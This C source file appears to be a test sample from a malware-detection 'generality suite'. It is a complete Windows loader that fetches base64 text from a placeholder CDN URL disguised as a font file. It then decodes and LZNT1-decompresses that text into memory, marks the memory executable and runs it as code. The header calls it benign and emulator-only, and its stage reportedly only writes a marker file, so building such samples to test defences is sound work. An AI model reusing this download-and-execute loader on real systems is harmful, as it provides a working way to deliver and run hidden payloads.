/*
 * loader.c - generality suite: WinINet GET of base64 text -> CryptStringToBinaryA ->
 * RtlDecompressBuffer (LZNT1) -> RW memory -> RX -> called. Benign, emulator-only (see
 * ../../lineage-common/common.h).
 *
 * Downloads http://cdn.example-assets.net/fonts/glyphs.txt into a stack buffer, decodes its
 * base64 with CryptStringToBinaryA into a global buffer, decompresses that with ntdll's
 * RtlDecompressBuffer (LZNT1, resolved with GetProcAddress) into a new PAGE_READWRITE allocation,
 * makes it PAGE_EXECUTE_READ and calls it. The stage (../../lineage-common/payload.c) writes
 * C:\Users\Public\lineage_b64_lznt1.txt.
 * Exit codes: 0 ok, 1 no marker, 2 network, 3 base64, 4 decompress, 5 memory.
 */
#include "common.h"
#include <wincrypt.h>
#include <wininet.h>

#define COMPRESSION_FORMAT_LZNT1_ 2
typedef LONG (WINAPI *RtlDecompressBuffer_t)(USHORT, PUCHAR, ULONG, PUCHAR, ULONG, PULONG);

static unsigned char g_raw[4096];

void Entry(void)
{
    static struct sc_ctx ctx;
    typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);
    char text[8192];
    DWORD got = 0, total = 0, n = sizeof(g_raw), old;
    ULONG size = 0;
    HINTERNET net, url;
    RtlDecompressBuffer_t decompress;
    unsigned char *mem;

    if (!marker_present())
        ExitProcess(1);
    net = InternetOpenA("Mozilla/5.0 (compatible; chainreplay-demo)", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    url = net ? InternetOpenUrlA(net, "http://cdn.example-assets.net/fonts/glyphs.txt", 0, 0, INTERNET_FLAG_RELOAD, 0) : 0;
    if (!url)
        ExitProcess(2);
    while (total < sizeof(text) - 1 && InternetReadFile(url, text + total, sizeof(text) - 1 - total, &got) && got)
        total += got;
    InternetCloseHandle(url);
    InternetCloseHandle(net);
    if (total < 64)
        ExitProcess(2);
    if (!CryptStringToBinaryA(text, total, CRYPT_STRING_BASE64, g_raw, &n, 0, 0) || n == 0)
        ExitProcess(3);
    decompress = (RtlDecompressBuffer_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "RtlDecompressBuffer");
    if (!decompress)
        ExitProcess(4);
    mem = (unsigned char *)VirtualAlloc(0, 0x2000, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(5);
    if (decompress(COMPRESSION_FORMAT_LZNT1_, mem, 0x2000, g_raw, n, &size) != 0 || size == 0)
        ExitProcess(4);
    if (!VirtualProtect(mem, size, PAGE_EXECUTE_READ, &old))
        ExitProcess(5);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_b64_lznt1.txt", "base64, then LZNT1\n");
    ExitProcess(((entry_t)(void *)mem)(&ctx) ? 6 : 0);
}
